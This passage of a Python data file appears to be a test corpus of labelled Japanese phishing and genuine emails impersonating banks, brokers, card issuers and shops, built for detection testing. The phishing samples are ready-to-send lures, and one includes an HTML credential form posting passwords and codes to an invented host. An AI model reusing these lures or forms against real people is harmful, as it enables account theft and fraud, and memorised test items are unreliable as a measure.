"""Every ja-proxy4 mail. Attacker domains are invented; genuine senders are listed in README."""
MAILS = []

def puny(label):
    return 'xn--' + label.encode('punycode').decode()

GP = ('gmail', 'pass', 'pass', 'pass')
MP = ('m365', 'pass', 'pass', 'pass')
IP_ = ('isp', 'pass', 'pass', 'pass')
GF = ('gmail', 'fail', None, 'fail')
MF = ('m365', 'fail', 'none', 'fail')
IF = ('isp', 'softfail', 'none', 'fail')
GL = ('gmail', 'pass', 'pass', None)       # look-alike, own SPF/DKIM, no DMARC
ML = ('m365', 'pass', 'pass', 'none')

def P(name, brand, frm, subject, body, tricks, **kw):
    MAILS.append(dict(name=name, label='phish', brand=brand, frm=frm, subject=subject, body=body, tricks=tricks, **kw))

def G(name, brand, frm, subject, body, tricks, **kw):
    MAILS.append(dict(name=name, label='ham', brand=brand, frm=frm, subject=subject, body=body, tricks=tricks, **kw))

SIG_NOMURA = '\n\n野村證券株式会社\n〒103-8011 東京都中央区日本橋1-13-1\n'

# ---------------------------------------------------------------- 野村證券
P('nomura-forged-torihiki-mokuteki-dmarcfail', '野村證券', 'info@nomura.co.jp',
  '【野村證券】お取引目的等の確認のお願い（重要）',
  'お客様各位\n\n平素より野村證券をご利用いただき誠にありがとうございます。\n金融庁のガイドラインに基づき、お客様のお取引目的・職業等のご登録内容の確認をお願いしております。\n2026年12月3日までにご回答いただけない場合、オンラインサービスのお取引を一部制限させていただきます。\n\n▼ご登録内容の確認はこちら\nhttps://nomura-kakunin.top/hometrade/login?id=%s\n\n※本メールは送信専用です。' % 'a81f' + SIG_NOMURA,
  'forged official From (SPF fail, DMARC fail p=REJECT, Gmail AR); .top combo domain; 取引制限 deadline',
  fname='野村證券', auth=GF, eol='crlf')
P('nomura-lookalike-visible-official-url-html', '野村證券', 'support@nomura-hometrade.com',
  '【野村證券】ログイン認証の有効期限が迫っています',
  '野村證券をご利用のお客様\n\nセキュリティ強化のため、ログイン認証（ワンタイムパスワード）の再設定が必要です。\n以下のURLからログインし、再設定を完了してください。\n\n[[https://hometrade.nomura.co.jp/web/rmfIndexWebAction.do|https://nomura-hometrade.com/rmf/index.php?u=7f31]]\n\n期限内に手続きがない場合、お取引が停止されます。' + SIG_NOMURA,
  'look-alike sender domain passing own SPF/DKIM (no DMARC); HTML link text shows official hometrade URL, href look-alike',
  fname='野村證券 ほっとダイレクト', auth=GL, struct='html', cte='quoted-printable')
P('nomura-compromised-jp-company-iso2022jp', '野村證券', 'kanri@maruyoshi-kougyo.co.jp',
  '【野村證券】重要なお知らせ：お客様のアカウントが一時停止されました',
  'お客様\n\n第三者による不正ログインの可能性を検知したため、お客様のアカウントを一時停止しました。\n①下記URLにアクセス\n②お客様情報の再確認\n③取引暗証番号の入力\nの手順で利用再開のお手続きをお願いいたします。\n\nhttps://www.nomura.co.jp.secure-check.jp-kyc.icu/reopen\n\n㈱野村證券 お客様サポート',
  'compromised unrelated Japanese company (full SPF/DKIM/DMARC pass); brand-as-subdomain .icu; ①②③㈱ CP932 in ISO-2022-JP; asks 取引暗証番号',
  fname='野村證券', charset='iso-2022-jp', auth=GP, eol='crlf')
G('nomura-login-notice-genuine', '野村證券', 'info@nomura.co.jp',
  '【野村證券】ログインのお知らせ',
  '野村　太郎 様\n\n野村證券オンラインサービスへのログインがありました。\n\n日時：2026年11月20日 08:12\n利用環境：スマートフォンアプリ\n\nお心当たりがない場合は、ただちにパスワードを変更のうえ、オンラインサービス・サポートダイヤル（0120-344-999）までご連絡ください。\nパスワードの変更はログイン後の「お客様情報」から行えます。\nhttps://hometrade.nomura.co.jp/\n\n※当社がメールでパスワードや取引暗証番号をお尋ねすることはありません。' + SIG_NOMURA,
  'genuine login notice that tells the user to change password; official domain, full pass',
  fname='野村證券', auth=GP)
G('nomura-market-newsletter-genuine', '野村證券', 'info@nomura.co.jp',
  '【野村證券】今週のマーケット展望とNISAキャンペーンのご案内',
  '野村證券メールマガジン 2026年11月24日号\n\n■今週のマーケット展望\n日経平均は米国金利の動向を受けて神経質な値動きとなりそうです。\n\n■NISA口座 新規開設キャンペーン実施中\n期間中に口座を開設いただいた方の中から抽選で1,000名様に2,000円をプレゼント！\n詳しくは[[キャンペーンページ|https://www.nomura.co.jp/retail/campaign/nisa2026.html]]をご覧ください。\n\n配信停止は[[こちら|https://www.nomura.co.jp/mail/stop.html]]' + SIG_NOMURA,
  'newsletter with campaign/prize wording; multipart/alternative',
  fname='野村證券', auth=GP, struct='alt', cte='quoted-printable', eol='crlf')

# ---------------------------------------------------------------- 大和証券
P('daiwa-forged-noauth-sjis-ip', '大和証券', 'daiwa-info@daiwa.co.jp',
  '【大和証券】取引制限のお知らせ',
  'お客様各位\n\nお客様の口座において、不審なお取引が確認されたため、一部のお取引を制限しております。\n本人確認が完了するまでご出金はできません。\n\n本人確認手続き：\nhttp://45.76.203.118:8080/daiwa/kyc/\n\n24時間以内にお手続きください。\n\n大和証券株式会社　カスタマーサポート',
  'forged official From, no Authentication-Results; IP-address host with port; Shift_JIS body',
  fname='大和証券', charset='shift_jis', cte='8bit', auth=None, eol='crlf')
P('daiwa-lookalike-typo-dlawa', '大和証券', 'no-reply@dlawa-sec.com',
  '大和証券：お客様情報更新のお願い',
  '大和証券をご利用いただきありがとうございます。\n\n定期的なお客様情報の更新時期となりました。下記より更新をお願いします。\n[[お客様情報を更新する|https://www.dlawa-sec.com/member/update]]\n\n更新いただけない場合、口座が凍結される場合がございます。',
  'typo look-alike dlawa (l for i), own SPF/DKIM pass; 口座凍結',
  fname='大和証券', auth=GL, struct='html')
G('daiwa-dennshi-koufu-genuine', '大和証券', 'info@daiwa.co.jp',
  '【大和証券】電子交付書面のお知らせ',
  '大和　花子 様\n\nいつも大和証券をご利用いただきありがとうございます。\n下記の書面を電子交付いたしました。\n・取引報告書（2026年11月25日約定分）\n\nオンライントレードにログインのうえ、「電子交付書面」メニューからご確認ください。\nhttps://www.daiwa.co.jp/\n\n本メールは送信専用アドレスからお送りしています。\n大和証券株式会社',
  'genuine notice asking to log in; no AR header saved (forwarded from archive)',
  fname='大和証券', auth=None, charset='iso-2022-jp')

# ---------------------------------------------------------------- 楽天証券
RS = puny('rakuten-sес')  # Cyrillic е, с
P('rakutensec-punycode-homoglyph', '楽天証券', 'info@%s.com' % RS,
  '【楽天証券】重要：ログイン追加認証の設定について',
  '楽天証券をご利用のお客様へ\n\n不正ログイン防止のため、ログイン追加認証の設定を必須といたしました。\n未設定のお客様は11月30日以降ログインできなくなります。\n\n設定はこちら：https://www.%s.com/login/\n\n楽天証券株式会社' % RS,
  'punycode homoglyph (Cyrillic е/с) in sender and link, look-alike passes own auth; deadline',
  fname='楽天証券', auth=GL, charset='utf-8', cte='8bit')
P('rakutensec-forged-m365-fail-bitly', '楽天証券', 'info@rakuten-sec.co.jp',
  '【楽天証券】お客様の口座で不正な取引を検知しました',
  'お客様の口座で、本日09:14に第三者によると思われる売却注文を検知しました。\nご本人様のお取引でない場合は、至急下記より取消手続きを行ってください。\n\nhttps://bit.ly/3Rksec9Q\n\n楽天証券 カスタマーサービスセンター',
  'forged official From, Microsoft 365 AR spf=fail dmarc=fail compauth=fail; bit.ly shortener',
  fname='楽天証券', auth=MF)
G('rakutensec-yakujo-genuine', '楽天証券', 'info@rakuten-sec.co.jp',
  '【楽天証券】約定通知（国内株式）',
  '楽天証券をご利用いただきありがとうございます。\nご注文が約定しましたのでお知らせします。\n\n銘柄：トヨタ自動車（7203）\n売買：買付\n数量：100株\n約定単価：2,845円\n\n詳細はログイン後の「注文照会」でご確認ください。\nhttps://member.rakuten-sec.co.jp/\n\n楽天証券株式会社',
  'genuine trade execution notice; member subdomain link',
  fname='楽天証券', auth=GP, eol='crlf')
G('rakutensec-otp-genuine', '楽天証券', 'info@rakuten-sec.co.jp',
  '【楽天証券】認証コードのお知らせ',
  '認証コード：482913\n\nこのコードの有効期限は10分です。\n本メールにお心当たりがない場合は、パスワードの変更をご検討ください。\n\n楽天証券',
  'very short OTP mail, no link, credential wording',
  fname='楽天証券', auth=GP, cte='8bit')

# ---------------------------------------------------------------- マネックス証券
P('monex-freemail-gmail-shortener', 'マネックス証券', 'monex.support.jp@gmail.com',
  'マネックス証券　ご本人確認書類の再提出のお願い',
  'マネックス証券をご利用のお客様\n\nご提出いただいた本人確認書類に不備がございました。\n下記より再提出をお願いいたします。\n\nhttps://is.gd/mnx_kyc\n\n期限：2026年11月29日\nマネックス証券株式会社 口座開設センター',
  'free mail (gmail.com) with brand display name; is.gd shortener',
  fname='マネックス証券', auth=('gmail', 'pass', 'pass', 'pass'), eol='crlf')
P('monex-lookalike-eucjp-cloud', 'マネックス証券', 'security@monex-jp.net',
  '【マネックス証券】セキュリティ強化のためのお手続き',
  'マネックス証券をご利用いただき誠にありがとうございます。\n\nお客様の資産を守るため、取引パスワードの再登録をお願いしております。\nhttps://storage.googleapis.com/monex-secure-7731/index.html\n\n再登録がない場合、出金機能を停止いたします。',
  'look-alike sender monex-jp.net passes own SPF/DKIM; cloud storage (storage.googleapis.com) landing; EUC-JP',
  fname='マネックス証券', charset='euc-jp', cte='8bit', auth=GL)
G('monex-nyukin-genuine', 'マネックス証券', 'info@monex.co.jp',
  '【マネックス証券】ご入金確認のお知らせ',
  'マネックス　一郎 様\n\nご入金を確認いたしました。\n入金額：300,000円\n入金日：2026年11月18日\n\nマネックス証券株式会社\nhttps://www.monex.co.jp/',
  'genuine deposit confirmation, Microsoft 365 AR',
  fname='マネックス証券', auth=MP, charset='iso-2022-jp')

# ---------------------------------------------------------------- SBI新生銀行
P('sbishinsei-forged-noauth-html', 'SBI新生銀行', 'support@sbishinseibank.co.jp',
  '【SBI新生銀行】インターネットバンキングでのお振り込み手続きの一時制限について',
  'SBI新生銀行をご利用いただきありがとうございます。\n\nお客様の口座で不正な取引が疑われるため、お振り込み手続きを一時的に制限しております。\n制限解除には、下記よりお取引目的の確認をお願いします。\n\n[[制限を解除する|https://sbishinsei-kaijo.shop/powerdirect/]]\n\nSBI新生銀行',
  'forged official sender, no Authentication-Results; .shop combo look-alike; 振込制限解除',
  fname='SBI新生銀行', auth=None, struct='html')
G('sbishinsei-support-notice-genuine', 'SBI新生銀行', 'support@sbishinseibank.co.jp',
  '【SBI新生銀行】通知Eメールサービス　お振込受付のお知らせ',
  'SBI新生銀行をご利用いただきありがとうございます。\n以下の内容でお振込を受け付けました。\n\n受付日時：2026/11/21 13:02\n振込金額：45,000円\n\nお心当たりがない場合は、SBI新生銀行カスタマーセンターへご連絡ください。\n※当行がメールでパスワード等をお伺いすることはありません。',
  'genuine transaction notice (sender address listed on the bank phishing page), no links',
  fname='SBI新生銀行', auth=GP)
G('sbishinsei-koho-newsletter-genuine', 'SBI新生銀行', 'koho@ml.sbishinseibank.co.jp',
  '【SBI新生銀行】冬の円定期預金キャンペーンのお知らせ',
  'いつもSBI新生銀行をご利用いただきありがとうございます。\n\n冬の円定期預金キャンペーンを実施中です。期間中、新規のお預け入れで特別金利を適用します。\n詳しくは[[キャンペーンページ|https://www.sbishinseibank.co.jp/campaign/teiki2026w/]]をご覧ください。\n\n配信停止：[[メール配信設定|https://www.sbishinseibank.co.jp/mail/]]',
  'newsletter from ml. subdomain (listed on bank page), campaign wording',
  fname='SBI新生銀行', auth=MP, struct='alt')

# ---------------------------------------------------------------- 住信SBIネット銀行
P('netbk-html-attachment-form', '住信SBIネット銀行', 'notice@netbk-security.help',
  '【住信SBIネット銀行】スマート認証NEOの再登録について',
  'お客様\n\nスマート認証NEOの仕様変更に伴い、再登録が必要になりました。\n添付のファイルを開き、画面の案内に沿ってご登録ください。\n\n住信SBIネット銀行',
  'HTML attachment containing a credential form posting to an invented host; .help look-alike sender passes own auth',
  fname='住信SBIネット銀行', auth=GL, struct='mixed',
  attach=('再登録フォーム.html', 'text/html', '<html><head><meta charset="utf-8"><title>住信SBIネット銀行 ログイン</title></head><body><h3>NEOBANK 住信SBIネット銀行</h3><form action="https://neo-auth.netbk-security.help/post.php" method="post">ユーザーネーム<input name="uid"><br>ログインパスワード<input type="password" name="pw"><br>認証番号<input name="code"><br><button>ログイン</button></form></body></html>\n'))
P('netbk-qr-only-related', '住信SBIネット銀行', 'info@netbk.co.jp',
  '【住信SBIネット銀行】口座の利用制限について',
  'お客様の口座は現在利用制限中です。\nスマートフォンで下記の二次元コードを読み取り、本人確認を行ってください。\n\n{{img:qr}}\n\n住信SBIネット銀行株式会社',
  'QR code image only (no URL), forged official From with SPF softfail/DMARC fail in Japanese ISP AR format',
  fname='住信SBIネット銀行', auth=IF, struct='related', charset='iso-2022-jp')
G('netbk-neobank-subdomain-notice-genuine', '住信SBIネット銀行', 'info@netbk.co.jp',
  '【住信SBIネット銀行】【注意喚起】当社を装ったフィッシングメールにご注意ください',
  'いつも住信SBIネット銀行をご利用いただきありがとうございます。\n\n当社を装い、「口座の利用制限」「スマート認証NEOの再登録」などと称して偽サイトへ誘導するフィッシングメールが確認されています。\n不審なメールのリンク先には絶対にアクセスせず、パスワードや認証番号を入力しないでください。\n\n当社のWEBサイトは「https://xxx.netbk.co.jp」で始まります。\n詳しくは以下をご覧ください。\nhttps://neobank.netbk.co.jp/contents/company/info/2026/phishing.html\n\n住信SBIネット銀行株式会社',
  'genuine phishing warning full of phishing words; neobank. subdomain link',
  fname='住信SBIネット銀行', auth=GP, eol='crlf')
G('netbk-otp-genuine', '住信SBIネット銀行', 'info@netbk.co.jp',
  '【住信SBIネット銀行】認証コードのお知らせ',
  '認証コード：730125\n\n本コードを他人に教えないでください。当社からお電話等でお伺いすることはありません。\n\n住信SBIネット銀行',
  'short OTP mail, no link', fname='住信SBIネット銀行', auth=MP, charset='iso-2022-jp')

# ---------------------------------------------------------------- PayPay銀行
P('paypaybank-ip-host-iso2022jp', 'PayPay銀行', 'info@paypay-ginko.jp',
  '【PayPay銀行】お客様情報の確認が必要です',
  'PayPay銀行をご利用のお客様\n\n当行では定期的にお客様情報の確認を行っております。\n下記URLから、ログインIDとパスワード、ワンタイムパスワードを入力してください。\nhttp://198.51.100.77/paypay-bank/login.html\n\n確認がない場合、口座のお取引を制限させていただきます。',
  'look-alike sender domain, IP host link, asks ID/password/OTP',
  fname='PayPay銀行', auth=GL, charset='iso-2022-jp', eol='crlf')
G('paypaybank-furikomi-genuine', 'PayPay銀行', 'info@paypay-bank.co.jp',
  '【PayPay銀行】お振込受付のお知らせ',
  'PayPay銀行をご利用いただきありがとうございます。\nお振込を受け付けました。\n\n振込先：ミズホ　タロウ 様\n金額：12,000円\n\n詳細はログイン後の入出金明細でご確認ください。\nhttps://www.paypay-bank.co.jp/',
  'genuine transaction notice', fname='PayPay銀行', auth=GP, cte='quoted-printable')

# ---------------------------------------------------------------- ソニー銀行
P('sonybank-typo-benk', 'ソニー銀行', 'service@sonybenk.net',
  '【ソニー銀行】不正アクセス防止のためのご本人確認',
  'ソニー銀行をご利用のお客様\n\nお客様のアカウントに海外からのアクセスがありました。\n安全のため、下記よりご本人確認をお願いいたします。\n\nhttps://moneykit.sonybenk.net/login\n\nソニー銀行株式会社',
  'typo look-alike sonybenk.net (sender and link, brand secondary name moneykit as subdomain)',
  fname='ソニー銀行', auth=GL)
G('sonybank-moneykit-genuine', 'ソニー銀行', 'info@sonybank.net',
  '【ソニー銀行】外貨預金 金利のお知らせ',
  'いつもソニー銀行をご利用いただきありがとうございます。\n\n12月の外貨預金の特別金利のお知らせです。\n米ドル定期預金（1ヵ月）：年5.00％（税引前）\n\nお取引はこちらからログインしてください。\nhttps://o2o.moneykit.net/\n\nソニー銀行株式会社',
  'genuine newsletter with link on secondary official domain moneykit.net',
  fname='ソニー銀行', auth=GP, struct='alt')

# ---------------------------------------------------------------- 地方銀行
P('yokohama-bank-eucjp-firebase', '横浜銀行', 'hamagin-info@boy-bank.com',
  '【横浜銀行】口座のお取引を一時停止しました',
  '横浜銀行をご利用のお客様\n\nマネー・ローンダリング対策の一環として、お客様の口座のお取引を一時停止しております。\n再開には以下のページでお客様情報をご回答ください。\nhttps://hamagin-kyc-2026.web.app/\n\n株式会社横浜銀行',
  'look-alike sender; Firebase hosting web.app; EUC-JP 8bit',
  fname='横浜銀行', charset='euc-jp', cte='8bit', auth=GL)
G('yokohama-bank-notice-genuine', '横浜銀行', 'info@boy.co.jp',
  '【横浜銀行】はまぎんマイダイレクト　パスワード変更完了のお知らせ',
  '横浜銀行をご利用いただきありがとうございます。\n\nはまぎんマイダイレクトのログインパスワードの変更を受け付けました。\nお心当たりがない場合は、下記までご連絡ください。\nはまぎんテレフォンセンター　0120-45-8489\n\n株式会社横浜銀行\nhttps://www.boy.co.jp/',
  'genuine password-changed notice (plausible local part)', fname='横浜銀行', auth=IP_, charset='iso-2022-jp')
P('chiba-bank-sms-self-forward', '千葉銀行', 'taro.yamada.home@example.jp',
  'Fwd: SMS',
  '携帯に来たSMSです。後で確認\n\n---\n【千葉銀行】お客様の口座が凍結されました。解除はこちら https://chibagin-kaijo.cyou/r\n',
  'SMS text forwarded by the user to themself (own domain, auth pass); .cyou; label phish',
  fname='山田太郎', auth=GP, cte='8bit')
G('chiba-bank-genuine', '千葉銀行', 'info@chibabank.co.jp',
  '【千葉銀行】ちばぎんアプリ　ご登録完了のお知らせ',
  'ちばぎんアプリへのご登録ありがとうございます。\n\n登録日時：2026年11月11日 19:40\n\n本メールにお心当たりのない場合は、お手数ですがちばぎんインターネットバンキングヘルプデスクまでご連絡ください。\nhttps://www.chibabank.co.jp/\n\n株式会社千葉銀行',
  'genuine registration notice (plausible local part)', fname='千葉銀行', auth=GP)
P('fukuoka-bank-callback-only', '福岡銀行', 'fukuoka-bank@outlook.jp',
  '【福岡銀行】重要　口座不正利用の調査について',
  'お客様\n\nお客様名義の口座が特殊詐欺に利用されている疑いがあり、調査を行っております。\n至急、下記の調査担当窓口までお電話ください。本日中にご連絡がない場合、口座を凍結いたします。\n\n調査担当窓口：050-3188-4627（担当：タナカ）\n\n株式会社福岡銀行　金融犯罪対策室',
  'call-back only (no link), free mail outlook.jp, 口座凍結 threat',
  fname='福岡銀行', auth=('m365', 'pass', 'pass', 'pass'), charset='iso-2022-jp')

# ---------------------------------------------------------------- アメリカン・エキスプレス
P('amex-forged-dmarc-fail-html', 'アメリカン・エキスプレス', 'info@americanexpress.com',
  '【American Express】カード利用確認のお願い',
  'アメリカン・エキスプレス・カードをご利用いただき、ありがとうございます。\n\nご本人のご利用かどうかを確認させていただきたいお取引がありましたので、カードのご利用を一部制限させていただきました。\n以下よりご利用確認にご協力をお願いいたします。\n\n[[https://www.americanexpress.com/ja-jp/account/login|https://ameisjp.oxvkep.cn/acc/login]]\n\nご回答をいただけない場合、カードのご利用制限が継続されます。',
  'forged official From (SPF fail, DMARC fail); link text shows official URL, href .cn',
  fname='American Express', auth=GF, struct='html', eol='crlf')
P('amex-lookalike-split-subject', 'アメリカン・エキスプレス', 'service@americanexpress-jp.com',
  '【AMERICAN EXPRESS】ご請求金額確定のご案内',
  'いつもアメリカン・エキスプレス・カードをご利用いただきありがとうございます。\n\n今月のご請求金額が確定しました。\nお支払い口座の引き落としが確認できなかったため、下記よりお支払い方法の再登録をお願いします。\nhttps://americanexpress-jp.com/statement/pay\n\nアメリカン・エキスプレス・インターナショナル, Inc.',
  'look-alike americanexpress-jp.com (own pass, DMARC p=NONE pass); split encoded-word subject',
  fname='アメリカン・エキスプレス', auth=('gmail', 'pass', 'pass', 'pass'), policy='NONE', subj='split', charset='iso-2022-jp')
P('amex-compromised-shop-welcome', 'アメリカン・エキスプレス', 'shop@hanamizuki-kagu.co.jp',
  '【American Express】お客様情報の確認のお願い',
  'アメリカン・エキスプレス会員様\n\nお客様のアカウントで異常を発見しました。\n至急、下記ボタンよりお客様情報の検証を行ってください。\n\n[[お客様情報を検証する|https://welcome-aexp.com.verify-jp.top/ja-jp/]]',
  'compromised unrelated Japanese shop, full pass; brand-ish host welcome-aexp.com as subdomain of .top',
  fname='American Express', auth=MP, struct='html')
G('amex-welcome-aexp-statement-genuine', 'アメリカン・エキスプレス', 'AmericanExpress@welcome.aexp.com',
  'ご利用代金明細書発行のお知らせ',
  'アメリカン・エキスプレス・カードをご利用いただきありがとうございます。\n\n2026年11月分のご利用代金明細書がオンラインでご覧いただけるようになりました。\n[[オンライン明細書を確認する|https://www.americanexpress.com/ja-jp/account/login]]\n\n本メールは送信専用です。\nアメリカン・エキスプレス・インターナショナル, Inc.',
  'genuine statement mail from secondary sending domain welcome.aexp.com linking to americanexpress.com',
  fname='American Express', auth=GP, struct='alt', cte='quoted-printable')
G('amex-alerts-usage-genuine', 'アメリカン・エキスプレス', 'AmericanExpress@alerts.americanexpress.com',
  'カードご利用のお知らせ',
  'カードのご利用がありました。\n\nご利用日：2026/11/19\nご利用先：ｺﾝﾋﾞﾆ ﾄｳｷｮｳ\nご利用金額：1,280円\n\nお心当たりがない場合は、カード裏面のお問い合わせ先までご連絡ください。\nhttps://www.americanexpress.com/ja-jp/',
  'genuine usage alert from alerts. subdomain; half-width katakana merchant', fname='American Express', auth=MP)

# ---------------------------------------------------------------- dカード
P('dcard-cyou-raw-sjis-subject', 'dカード', 'dcard@dcard-docomo-info.cyou',
  '【dカード】ご利用確認のお願い',
  'dカードをご利用いただきありがとうございます。\n\n第三者による不正利用の可能性があるお取引を検知しました。\nカードのご利用を一時停止しております。\n下記よりご利用内容をご確認ください。\nhttps://dcard-docomo-info.cyou/mypage\n\n株式会社NTTドコモ',
  'look-alike .cyou passing own auth; raw 8-bit Shift_JIS subject and display name',
  fname='dカード', charset='shift_jis', cte='8bit', subj='raw', auth=GL, eol='crlf')
G('dcard-meisai-genuine', 'dカード', 'info@dcard.docomo.ne.jp',
  '【dカード】ご利用代金確定のお知らせ',
  'dカード会員様\n\n11月分のご利用代金が確定しました。\nお支払日：2026年12月10日\n\nご利用明細はdカードサイトまたはdカードアプリでご確認ください。\nhttps://d-card.jp/\n\n株式会社NTTドコモ',
  'genuine statement notice; link d-card.jp (secondary domain); sender plausible',
  fname='dカード', auth=GP)

# ---------------------------------------------------------------- au PAY カード
P('aupaycard-open-redirect-google', 'au PAY カード', 'aupay-card@kddi-fs-notice.com',
  '【au PAY カード】お支払い口座の確認',
  'au PAY カードをご利用のお客様\n\nお支払い口座の振替ができませんでした。\n下記より口座情報とカード情報をご確認ください。\n\nhttps://www.google.com/url?q=https://aupay-kddifs.sbs/login&sa=D&usg=AOvVaw1x\n\nauフィナンシャルサービス株式会社',
  'Google open redirect to .sbs; look-alike sender', fname='au PAY カード', auth=GL, cte='quoted-printable')

# ---------------------------------------------------------------- オリコ
P('orico-bing-redirect-html', 'オリコ', 'orico@orico-member.vip',
  '【オリコカード】重要：カード有効性確認のお願い',
  'いつもオリコカードをご利用いただき、誠にありがとうございます。\n\nカードの有効性確認ができておりません。下記より確認をお願いいたします。\n[[eオリコサービスにログイン|https://www.bing.com/ck/a?!&&p=3a9c&u=a1aHR0cHM6Ly9vcmljby1tZW1iZXIudmlwL2xvZ2lu&ntb=1]]\n\n株式会社オリエントコーポレーション',
  'Bing click redirect (base64 target .vip); look-alike .vip sender', fname='オリコ', auth=GL, struct='html', charset='iso-2022-jp')
G('orico-eorico-genuine', 'オリコ', 'info@orico.co.jp',
  '【オリコ】ご利用代金のご請求金額確定のお知らせ',
  'オリコカード会員様\n\n12月27日お支払い分のご請求金額が確定しました。\neオリコサービスにログインしてご確認ください。\nhttps://www.orico.co.jp/eorico/\n\n※本メールは送信専用です。\n株式会社オリエントコーポレーション',
  'genuine statement asking to log in', fname='オリコ', auth=IP_, charset='iso-2022-jp', eol='crlf')

# ---------------------------------------------------------------- ライフカード
P('lifecard-netlify-sjis-base64', 'ライフカード', 'info@lifecard-co.jp.net',
  '【ライフカード】ご利用停止のお知らせ',
  'ライフカード会員様\n\nお客様のカードにつきまして、不正利用の疑いがあるためご利用を停止いたしました。\n再開をご希望の場合は、下記よりお手続きください。\nhttps://lifecard-saikai.netlify.app/\n\nライフカード株式会社',
  'look-alike lifecard-co.jp.net; netlify.app hosting; Shift_JIS base64', fname='ライフカード',
  charset='shift_jis', cte='base64', auth=GL)
G('lifecard-genuine', 'ライフカード', 'info@lifecard.co.jp',
  '【ライフカード】LIFE-Web Desk　パスワード再設定のご案内',
  'ライフカードをご利用いただきありがとうございます。\n\nLIFE-Web Deskのパスワード再設定のお申し込みを受け付けました。\n以下のURLから30分以内に再設定を行ってください。\nhttps://www.lifecard.co.jp/\n\nお心当たりのない場合は、本メールを破棄してください。\nライフカード株式会社',
  'genuine password reset requested by user (deadline wording)', fname='ライフカード', auth=GP)

# ---------------------------------------------------------------- 三菱UFJニコス
P('nicos-compromised-univ-qp', '三菱UFJニコス', 'lab-admin@sci.hokuriku-u.example.ac.jp',
  '【MUFGカード】ご利用確認のお願い',
  'MUFGカード・DCカード・NICOSカードをご利用のお客様\n\n弊社では、第三者による不正利用の防止を目的として、ご利用確認を実施しております。\n以下よりご本人確認をお願いいたします。\n\nhttps://cr-mufg-jp.kakunin-web.xyz/\n\n三菱UFJニコス株式会社',
  'compromised university mailbox (full pass); hyphenated brand look-alike cr-mufg-jp on .xyz',
  fname='三菱UFJニコス', auth=GP, cte='quoted-printable')
G('nicos-genuine', '三菱UFJニコス', 'info@cr.mufg.jp',
  '【三菱UFJニコス】ご請求額確定のお知らせ',
  'いつもご利用いただきありがとうございます。\n\n次回お支払い分のご請求額が確定しました。\n会員専用WEBサービスからご確認いただけます。\nhttps://www.cr.mufg.jp/\n\n三菱UFJニコス株式会社',
  'genuine statement notice; sender local part plausible', fname='三菱UFJニコス', auth=MP)

# ---------------------------------------------------------------- ZOZOTOWN
P('zozo-lookalike-points-expire', 'ZOZOTOWN', 'info@zozotown-point.shop',
  '【ZOZOTOWN】ポイント失効のお知らせ',
  'ZOZOTOWNをご利用いただきありがとうございます。\n\nお客様の保有ポイント 8,420pt が2026年11月30日に失効します。\n失効前に下記よりポイント交換手続きを行ってください。\nhttps://zozotown-point.shop/exchange\n\n株式会社ZOZO',
  'look-alike .shop; ポイント失効 lure', fname='ZOZOTOWN', auth=GL, struct='alt')
G('zozo-order-genuine', 'ZOZOTOWN', 'info@zozo.jp',
  '【ZOZOTOWN】ご注文ありがとうございます',
  'ヤマダ　タロウ 様\n\nZOZOTOWNをご利用いただき、ありがとうございます。\nご注文を承りました。\n\n注文番号：5512-3380-1204\nお届け予定日：11月24日\n\nご注文内容は[[注文履歴|https://zozo.jp/_member/orderhistory/]]からご確認いただけます。\n\n株式会社ZOZO',
  'genuine order confirmation', fname='ZOZOTOWN', auth=GP, struct='alt', cte='quoted-printable')

# ---------------------------------------------------------------- ヨドバシ
P('yodobashi-info-change-cn', 'ヨドバシ・ドット・コム', 'service@mweilong-jp.cn',
  'ヨドバシドットコム：「お客様情報」変更依頼受付のご連絡 8kq2v',
  '■■「お客様情報」変更依頼受付のご連絡■■\n（このメールは、配信専用のアドレスで配信されています）\n\nヨドバシ・ドット・コムをご利用いただき、ありがとうございます。\nお客様情報の変更手続きを受け付けました。\n\n●変更されたお客様情報\n電話番号\n\nお心当たりのない場合は、24時間以内に下記「お客様専用ページ」よりご確認ください。\nhttps://yodobashi.com-member.mweilong-jp.cn/login_index/\n\nヨドバシ・ドット・コム',
  'display name only, .cn sender; brand-as-subdomain yodobashi.com-member.*; random tag in subject',
  fname='ヨドバシ・ドット・コム', auth=GL, charset='iso-2022-jp')
P('yodobashi-esp-tracker-abuse', 'ヨドバシ・ドット・コム', 'support@yodobashi.com',
  '[Yodobashi会員]ログインしましたか?(2026/11/22 03:14)',
  'ヨドバシ会員様\n\nお客様のアカウントに新しい端末からのログインがありました。\nご本人でない場合は、以下からアカウントを保護してください。\n\n[[アカウントを保護する|https://u1928374.ct.sendgrid.net/ls/click?upn=aHR0cHM6Ly95b2RvYmFzaC5jdXJ0YWluLWt5b3RvLmNvbQ]]\n\nヨドバシ・ドット・コム',
  'forged official From (SPF fail, DMARC fail, M365 AR); abused ESP click tracker (sendgrid) to invented look-alike',
  fname='ヨドバシ・ドット・コム', auth=MF, struct='html', cte='quoted-printable', eol='crlf')
G('yodobashi-order-genuine', 'ヨドバシ・ドット・コム', 'thanks_gochuumon@yodobashi.com',
  'ヨドバシ・ドット・コム：ご注文ありがとうございます',
  'ヨドバシ・ドット・コムをご利用いただき、ありがとうございます。\n\n以下の内容でご注文を承りました。\n【ご注文番号】1234567890\n【商品】単3形アルカリ乾電池 20本パック　1点\n【お支払い方法】クレジットカード\n\nご注文内容は「ご注文履歴」からご確認ください。\nhttps://order.yodobashi.com/yc/orderhistory/index.html\n\nヨドバシ・ドット・コム',
  'genuine order mail (yodobashi.com is the only official domain per its support page)',
  fname='ヨドバシ・ドット・コム', auth=GP, charset='iso-2022-jp', eol='crlf')

# ---------------------------------------------------------------- じゃらん
P('jalan-reservation-cancel-r2', 'じゃらん', 'yoyaku@jalan-reserve.com',
  '【じゃらんnet】ご予約のキャンセル処理について',
  'じゃらんnetをご利用いただきありがとうございます。\n\nご予約いただいた宿泊施設より、決済が確認できないためキャンセル処理を行うとの連絡がありました。\n12時間以内にカード情報の再確認をお願いします。\nhttps://pub-8e1f22a0.r2.dev/jalan/pay.html\n\nじゃらんnet 予約センター',
  'look-alike sender; Cloudflare r2.dev landing; urgency', fname='じゃらんnet', auth=GL)
G('jalan-reservation-genuine', 'じゃらん', 'info@jalan.net',
  '【じゃらんnet】予約確認のお知らせ',
  'じゃらんnetをご利用いただき、ありがとうございます。\nご予約が確定しました。\n\n宿泊施設：湯の郷ホテル\nチェックイン：2026年12月19日\n人数：大人2名\n\n予約の確認・変更・キャンセルはこちら\nhttps://www.jalan.net/uw/uwp1700/uww1701.do\n\n株式会社リクルート',
